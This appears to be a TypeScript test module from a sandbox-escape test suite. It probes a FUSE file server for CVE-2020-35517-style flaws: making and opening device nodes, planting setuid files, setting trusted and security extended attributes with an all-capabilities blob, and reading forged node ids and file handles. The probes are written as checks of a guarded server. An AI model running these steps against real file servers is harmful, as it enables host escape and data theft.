import { statSync } from 'node:fs'
import { contained, escaped, type Attack, type Verdict } from '../../attack.ts'
import { notForOthers } from '../../hostile-agent/no-agent.ts'
import { op, type Fuse } from '../../raw-fuse/fuse.ts'
import { guarded, naive, reportOf, writable } from '../../raw-fuse/site.ts'
import type { Site } from '../../site.ts'

const S_IFCHR = 0o020000
const S_IFBLK = 0o060000
/** struct vfs_ns_cap_data (include/uapi/linux/capability.h): revision 2, every capability effective. */
const capabilityOfAll = Buffer.from('010000020000000000ffffffff00000000ffffff', 'hex')
/** /dev/zero: a device that tells by its bytes that it was opened. */
const zero = 1 << 8 | 5

/** Node ids and handles that the server has never given, down to the descriptors that it has itself. */
const forged = [0n, 2n, 3n, 4n, 5n, 6n, 7n, 8n, 9n, 10n, 11n, 12n, 100n, 4095n, 0xffff_ffffn, 0x7fff_ffff_ffff_ffffn, 0xffff_ffff_ffff_ffffn]

async function verdict(site: Site, fuse: Fuse): Promise<Verdict> {
  const through: string[] = []
  const volume = await fuse.walk(...writable)
  if (volume === undefined) throw new Error('the writable volume is not in the share')
  await fuse.mknod(volume, 'zero', S_IFCHR | 0o666, zero)
  await fuse.mknod(volume, 'disk', S_IFBLK | 0o666, 7 << 8)
  const device = await fuse.lookup(volume, 'zero')
  const bytes = device === undefined ? undefined : await fuse.content(device)
  if (bytes !== undefined && bytes.length > 0) through.push(`MKNOD and OPEN of a device of the host's: ${bytes.length} bytes read`)
  await fuse.mknod(volume, 'suid', 0o104755)
  const suid = await fuse.lookup(volume, 'suid')
  if (suid !== undefined) await fuse.chmod(suid, 0o104755)
  const mode = statSync(`${site.directory}/writable/suid`, { throwIfNoEntry: false })?.mode ?? 0
  const file = await fuse.lookup(volume, 'file')
  for (const name of ['trusted.overlay.opaque', 'trusted.overlay.redirect', 'security.selinux', 'security.ima', 'security.capability', 'user.of-the-guest']) {
    if (file !== undefined) await fuse.setxattr(file, name, capabilityOfAll)
  }
  // Nothing that the server itself holds open may be read, however it is called.
  for (const fh of forged) {
    for (const node of [1n, volume, fh]) {
      const { error, body } = await fuse.read(fh, node)
      if (error === 0 && body.length > 0) through.push(`READ of handle ${fh}, which was never given: ${body.length} bytes`)
    }
    const content = fh < 2n || fh === volume ? undefined : await fuse.content(fh)
    if (content?.includes(site.secret)) through.push(`node ${fh}, which was never given, is a file of the host's`)
    for (const opcode of [op.getattr, op.readlink, op.release, op.opendir, op.setupMapping, op.ioctl]) await fuse.send(opcode, fh, new Uint8Array(48))
  }
  if (through.length > 0) return escaped(through.slice(0, 3).join('; '))
  return contained(`no device was opened, no forged node or handle answered; mode of a planted setuid file: 0${(mode & 0o7777).toString(8)}`)
}

export const attack: Attack = {
  id: 'fuse-handles',
  title: 'raw FUSE: device nodes opened that were made there, setuid files, labels of the host, node ids and file handles that were never given (CVE-2020-35517)',
  family: 'guest',
  leak: "devices of the host's, descriptors of the file server",
  bound: 'guest',
  notFor: notForOthers,
  control: { weak: 'a file server that opens what it finds and takes any handle', run: async (site) => verdict(site, await naive(site)) },
  async run(site) {
    const fuse = await guarded(site)
    const judged = await verdict(site, fuse)
    const report = await reportOf(fuse)
    const open = report.flags.filter((flags) => !flags.includes('nosuid') || !flags.includes('nodev'))
    if (open.length > 0) return escaped(`a mount of the share lets setuid files or devices count on the host: ${open.join(' ')}`)
    // security.capability is what a container's own root may give (CAP_SETFCAP); the others are the host's words about its files.
    const labels = report.attributes.filter((name) => /^(trusted|security)\./.test(name) && name !== 'security.capability')
    if (labels.length > 0) return escaped(`the guest set ${labels.join(' ')} on a file of the host's`)
    if (!report.attributes.includes('user.of-the-guest')) throw new Error('not even a plain attribute was set: the requests are wrong')
    return { ...judged, evidence: `${judged.evidence}; every mount of the share is nosuid,nodev` }
  },
}
